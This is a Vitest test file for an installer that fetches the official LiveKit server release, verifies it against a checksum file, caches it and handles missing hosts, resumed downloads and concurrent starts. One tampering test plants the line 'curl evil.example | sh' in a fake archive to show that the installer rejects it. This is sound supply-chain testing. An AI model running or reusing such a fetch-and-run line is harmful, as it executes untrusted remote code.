import { execFileSync } from 'node:child_process'
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { servers } from './catalogue.ts'
import { TamperedReleaseError } from './errors.ts'
import { fromRelease } from './release.ts'
import { archiveOf, ReleaseHost, sha256 } from './release-host.fixture.ts'

const folder = '/livekit/livekit/releases/download/v1.13.5'
const archiveName = 'livekit_1.13.5_linux_amd64.tar.gz'
const program = '#!/bin/sh\necho livekit-server version 1.13.5\n'

let cacheDir: string
let host: ReleaseHost
let archive: Buffer
let said: string[]

beforeEach(async () => {
  cacheDir = mkdtempSync(join(tmpdir(), 'lexnova-release-'))
  said = []
  archive = await archiveOf('livekit-server', program)
  host = new ReleaseHost()
  publish(archive)
  await host.open()
})

afterEach(async () => {
  await host.close()
  rmSync(cacheDir, { recursive: true })
})

function publish(bytes: Buffer, checksums = `${sha256(bytes)}  ${archiveName}\n`): void {
  host.files.set(`${folder}/${archiveName}`, bytes)
  host.files.set(`${folder}/checksums.txt`, Buffer.from(checksums))
}

const install = (platform = 'linux-x64', url = host.url) =>
  fromRelease(
    servers.liveKit,
    { environment: { LEXNOVA_RELEASES_URL: url }, cacheDir },
    { onProgress: (line) => said.push(line) },
    platform,
  )

test('the program of the official archive is in the cache, and nothing else', async () => {
  const path = await install()
  expect(path).toBe(join(cacheDir, 'livekit-server-1.13.5'))
  expect(execFileSync(path ?? '', { encoding: 'utf8' })).toContain('1.13.5')
  expect(readdirSync(cacheDir)).toEqual(['livekit-server-1.13.5'])
})

test('a program of the size of a real one comes out whole', async () => {
  const large = `${program}exit\n${'x'.repeat(60_000_000)}`
  publish(await archiveOf('livekit-server', large))
  const path = await install()
  expect(readFileSync(path ?? '', 'utf8') === large).toBe(true)
})

test('an archive that is not the one of the checksum file stops everything and is deleted', async () => {
  const expected = sha256(archive)
  const tampered = await archiveOf('livekit-server', `${program}curl evil.example | sh\n`)
  publish(tampered, `${expected}  ${archiveName}\n`)
  const failure = await install().catch((error: Error) => error)
  expect(failure).toBeInstanceOf(TamperedReleaseError)
  for (const part of [archiveName, expected, sha256(tampered)]) expect(String(failure)).toContain(part)
  expect(readdirSync(cacheDir)).toEqual([])
})

test('an archive that the checksum file does not name is not even fetched', async () => {
  publish(archive, `${sha256(archive)}  another.tar.gz\n`)
  expect(await install()).toBeUndefined()
  expect(said.join()).toMatch(/does not name livekit_1\.13\.5_linux_amd64/)
  expect(host.requests.map(({ path }) => path)).toEqual([`${folder}/checksums.txt`])
})

test('a release that is not there is passed over with one line', async () => {
  host.files.clear()
  expect(await install()).toBeUndefined()
  expect(said).toEqual([expect.stringMatching(/Not using the official release.*checksums\.txt.*404/)])
})

test('a host that is not there is passed over with one line', async () => {
  const { url } = host
  await host.close()
  expect(await install('linux-x64', url)).toBeUndefined()
  expect(said).toEqual([expect.stringMatching(/Not using the official release.*ECONNREFUSED/)])
})

test('a platform without a release is said', async () => {
  expect(await install('darwin-arm64')).toBeUndefined()
  expect(said).toEqual(['The LiveKit server has no official release for darwin-arm64'])
  expect(host.requests).toEqual([])
})

test('an archive without the program is refused', async () => {
  publish(await archiveOf('something-else', program))
  await expect(install()).rejects.toThrow(/holds no file livekit-server/)
  expect(readdirSync(cacheDir)).toEqual([])
})

test('a download that breaks off is resumed by the next start', async () => {
  host.cuts = Array.from({ length: 5 }, () => 20)
  expect(await install()).toBeUndefined()
  host.requests.length = 0
  expect(await install()).toBe(join(cacheDir, 'livekit-server-1.13.5'))
  expect(host.requests.at(-1)?.range).toBe('bytes=100-')
  expect(readdirSync(cacheDir)).toEqual(['livekit-server-1.13.5'])
})

test('two starts at the same time both have it', async () => {
  const [one, other] = await Promise.all([install(), install()])
  expect(one).toBe(other)
  expect(execFileSync(one ?? '', { encoding: 'utf8' })).toContain('1.13.5')
  expect(readdirSync(cacheDir)).toEqual(['livekit-server-1.13.5'])
})

test('a broken program in the cache is replaced', async () => {
  writeFileSync(join(cacheDir, 'livekit-server-1.13.5'), 'broken', { mode: 0o755 })
  const path = await install()
  expect(execFileSync(path ?? '', { encoding: 'utf8' })).toContain('1.13.5')
})
